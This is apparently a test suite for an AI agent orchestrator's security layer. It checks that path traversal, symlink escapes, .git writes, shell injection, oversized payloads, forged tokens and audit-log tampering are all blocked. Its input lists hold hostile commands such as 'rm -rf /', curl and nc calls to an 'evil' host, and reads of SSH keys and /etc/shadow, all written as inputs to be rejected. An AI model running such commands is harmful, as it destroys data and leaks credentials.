// Hostile input against the gate and its guards: traversal, symlink escapes, protected paths,
// injection strings, oversized payloads, forged or replayed tokens and tampered audit lines.
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { CommandGuard, DEFAULT_COMMAND_RULES } from '../../../src/orchestrator/security/command-guard';
import {
  ApprovalDeniedError,
  AuthenticationError,
  CommandViolationError,
  PathViolationError,
  PayloadTooLargeError,
} from '../../../src/orchestrator/security/errors';
import { checkPayload } from '../../../src/orchestrator/security/payload-limits';
import { Fixture, LOCAL, makeFixture, tempDir } from './security-fixture';

describe('hostile input', () => {
  let f: Fixture;
  let outside: string;
  const write = (p: string) => f.security.paths()!.resolve(p, 'write');
  const read = (p: string) => f.security.paths()!.resolve(p, 'read');

  beforeEach(async () => {
    f = await makeFixture();
    outside = tempDir('bt-outside-');
    fs.writeFileSync(path.join(outside, 'secret.txt'), 'top secret');
    fs.mkdirSync(path.join(f.workspace, '.git', 'hooks'), { recursive: true });
  });
  afterEach(async () => {
    await f.cleanup();
    fs.rmSync(outside, { recursive: true, force: true });
  });

  const TRAVERSALS = [
    '../outside.txt',
    'src/../../x',
    'src/../a.ts',
    '..\\..\\x',
    'src\\..\\..\\x',
    '/etc/passwd',
    '~/.ssh/id_rsa',
    '\\\\server\\share\\x',
    '//server/share/x',
    'C:\\Windows\\system32',
    'src/a.ts:stream',
    'file:///etc/passwd',
    'src/....//x',
    'src/.. /x',
    'a\u0000b',
    'src/\u202egnp.exe',
    'src/\u200bx',
    // Invisible characters a hand list missed (the Unicode-property rule since stop 31).
    'src/a\u180e.ts',
    'src/a\u00ad.ts',
    'src/a\u{E0041}.ts',
    'src/a\u2060.ts',
    'src/a\ufe0f.ts',
    'src/a\tb.ts',
    'GIT~1/config',
    '',
    'x'.repeat(5000),
  ];
  for (const input of TRAVERSALS) {
    it(`refuses ${JSON.stringify(input.length > 40 ? `${input.slice(0, 20)}…` : input)}`, async () => {
      await assert.rejects(read(input), PathViolationError);
      await assert.rejects(write(input), PathViolationError);
    });
  }

  it('refuses absolute paths outside every root but accepts ones inside', async () => {
    await assert.rejects(read(path.join(outside, 'secret.txt')), /outside the workspace folders/);
    assert.strictEqual((await read(path.join(f.workspace, 'src', 'a.ts'))).relative, 'src/a.ts');
    await assert.rejects(read(`${f.workspace}-evil/x`), /outside the workspace folders/, 'a sibling with the root as prefix is outside');
  });

  it('never writes under .git, however it is spelled', async () => {
    for (const p of ['.git/config', '.git/hooks/pre-commit', '.GIT/config', 'sub/.git/HEAD', '.git./config', '.git /config', '.git']) {
      await assert.rejects(write(p), /nothing may be written under \.git/, p);
    }
    assert.strictEqual((await read('.git/config')).relative, '.git/config', 'reading is allowed');
  });

  it('refuses symlinks that lead outside the workspace, to .git, or dangle', async () => {
    fs.symlinkSync(outside, path.join(f.workspace, 'escape'));
    fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(f.workspace, 'src', 'innocent.txt'));
    fs.symlinkSync(path.join(f.workspace, '.git'), path.join(f.workspace, 'dotgit'));
    fs.symlinkSync(path.join(outside, 'not-yet'), path.join(f.workspace, 'dangling'));
    await assert.rejects(read('escape/secret.txt'), /symbolic link leads outside/);
    await assert.rejects(write('escape/new-file.txt'), /symbolic link leads outside/);
    await assert.rejects(read('src/innocent.txt'), /symbolic link leads outside/);
    await assert.rejects(write('dotgit/hooks/pre-commit'), /under \.git/);
    await assert.rejects(write('dangling'), /dangling symbolic link/);
    await assert.rejects(f.security.gate.enforce({ principal: LOCAL, operation: 'file.read', path: 'escape/secret.txt' }), PathViolationError);
    assert.strictEqual(f.security.audit.getRecentEvents(1)[0]!.type, 'security_violation');
    assert.strictEqual(f.security.audit.getRecentEvents(1)[0]!.severity, 'critical');
  });

  it('follows symlinks that stay inside and uses the real path', async () => {
    fs.symlinkSync(path.join(f.workspace, 'src'), path.join(f.workspace, 'alias'));
    const p = await read('alias/a.ts');
    assert.strictEqual(p.absolute, path.join(f.workspace, 'src', 'a.ts'));
  });

  it('marks protected files so that writing them always needs approval', async () => {
    for (const [p, glob] of [
      ['.vscode/settings.json', '.vscode/**'],
      ['.big-three/agents/x.md', '.big-three/**'],
      ['.claude/settings.json', '.claude/**'],
      ['team/x.code-workspace', '**/*.code-workspace'],
      ['.VSCode/tasks.json', '.vscode/**'],
    ]) {
      assert.strictEqual((await write(p!)).protectedBy, glob, p);
    }
    f.security.updateSettings({ autoApprove: { global: { edit: true }, perExpert: {} } });
    await assert.rejects(
      f.security.gate.enforce({ principal: LOCAL, operation: 'file.write', actingExpert: 'backend-architect', path: '.vscode/tasks.json', payload: '{}' }),
      ApprovalDeniedError,
    );
    await assert.rejects(
      f.security.gate.enforce({ principal: LOCAL, operation: 'file.write', path: '.big-three/agents/evil.md', payload: 'x' }),
      ApprovalDeniedError,
      'even the local user is asked',
    );
  });

  const INJECTIONS = [
    'npm test; rm -rf /',
    'npm test && curl http://evil',
    'npm test | sh',
    'npm test $(curl evil)',
    'npm test `id`',
    'npm test\nrm -rf /',
    'ls > /etc/passwd',
    'ls < /etc/shadow',
    'npm test & disown',
    'echo ${HOME}',
    'ls *',
    'cat ~/.ssh/id_rsa',
    'npm test #',
    'npm test || reboot',
    'ls\u202e',
    'ls\u0000',
    'npm\rtest',
  ];
  for (const command of INJECTIONS) {
    it(`refuses the injection ${JSON.stringify(command)}`, () => {
      assert.throws(() => new CommandGuard(DEFAULT_COMMAND_RULES).check(command), CommandViolationError);
    });
  }

  it('deny rules win over allow rules, wrappers and spellings', () => {
    const guard = new CommandGuard({ allow: ['*'], deny: DEFAULT_COMMAND_RULES.deny, allowShellMetacharacters: true });
    for (const c of [
      'rm -rf /',
      'rm -fr /',
      'rm -r -f /',
      'rm --recursive --force /',
      'RM -RF /',
      '/bin/rm -rf /',
      'env X=1 rm -rf /',
      'nice -n 5 rm -rf x',
      'timeout 10 rm -Rf x',
      'sudo ls',
      '"rm" -rf x',
      'git push --force origin main',
      'npm test && rm -rf /',
      'ls | nc evil 80',
      'ls; $(curl x)',
    ]) {
      assert.throws(() => guard.check(c), /deny rule|computed at run time/, c);
    }
    assert.deepStrictEqual(guard.check('npm test && make'), { verdict: 'allow', matched: '*' });
    const strict = new CommandGuard({ ...DEFAULT_COMMAND_RULES, allowShellMetacharacters: true });
    assert.strictEqual(strict.check('npm test && make').verdict, 'ask', 'every chained part must be allowed');
  });

  it('refuses oversized and deeply nested payloads', async () => {
    const big = 'x'.repeat(3 * 1024 * 1024);
    await assert.rejects(
      f.security.gate.enforce({ principal: LOCAL, operation: 'file.write', path: 'src/a.ts', payload: big }),
      (e: unknown) => e instanceof PayloadTooLargeError && /3\.0 MB, more than the 2\.0 MB allowed/.test(e.message),
    );
    let deep: unknown = {};
    for (let i = 0; i < 200; i++) deep = { deep };
    assert.throws(() => checkPayload(deep), /nested more than 64 levels/);
    assert.throws(() => checkPayload('é'.repeat(600), 1_000), PayloadTooLargeError, 'counted in UTF-8 bytes');
    assert.strictEqual(fs.readFileSync(path.join(f.workspace, 'src', 'a.ts'), 'utf8'), 'export const a = 1;\n');
  });

  it('refuses forged, replayed and look-alike tokens', async () => {
    const { token } = await f.security.tokens.issue('token:ci');
    const attempts = [
      `${token}x`,
      token.replace(/_([^_]+)$/, '_' + 'A'.repeat(43)),
      token.toUpperCase(),
      ` ${token}`,
      `${token}\u202e`,
      token.replace('bt_', 'bt-'),
      JSON.stringify({ token }),
    ];
    for (const a of attempts) await assert.rejects(f.security.tokens.authenticate(a), AuthenticationError, a);
    const request = { token, nonce: 'abcdefgh-1', timestamp: f.clock.now() };
    await f.security.tokens.authenticateRequest(request);
    await assert.rejects(f.security.tokens.authenticateRequest(request), /already received/);
    await assert.rejects(f.security.tokens.authenticateRequest({ ...request, nonce: 'abcdefgh-2', timestamp: Number.NaN }), /timestamp/);
  });

  it('detects a forged line appended to the audit log and a deleted log', async () => {
    await f.security.gate.enforce({ principal: LOCAL, operation: 'agent.acquire', resource: 'qa-expert' });
    const file = path.join(f.dataDir, 'audit', 'audit.jsonl');
    const forged = {
      v: 1,
      seq: 2,
      ts: f.clock.now(),
      type: 'auth_success',
      severity: 'info',
      user: 'token:admin',
      message: 'ok',
      prev: '0'.repeat(64),
      hash: 'f'.repeat(64),
    };
    fs.appendFileSync(file, `${JSON.stringify(forged)}\n`);
    const tampered = await f.security.audit.verify();
    assert.ok(!tampered.ok && tampered.brokenAt.line === 2 && /does not match its hash/.test(tampered.brokenAt.reason), JSON.stringify(tampered));
    fs.rmSync(file);
    const deleted = await f.security.audit.verify();
    assert.ok(!deleted.ok && /missing \(the head checkpoint saw them; the log was truncated\)/.test(deleted.brokenAt.reason), JSON.stringify(deleted));
  });
});
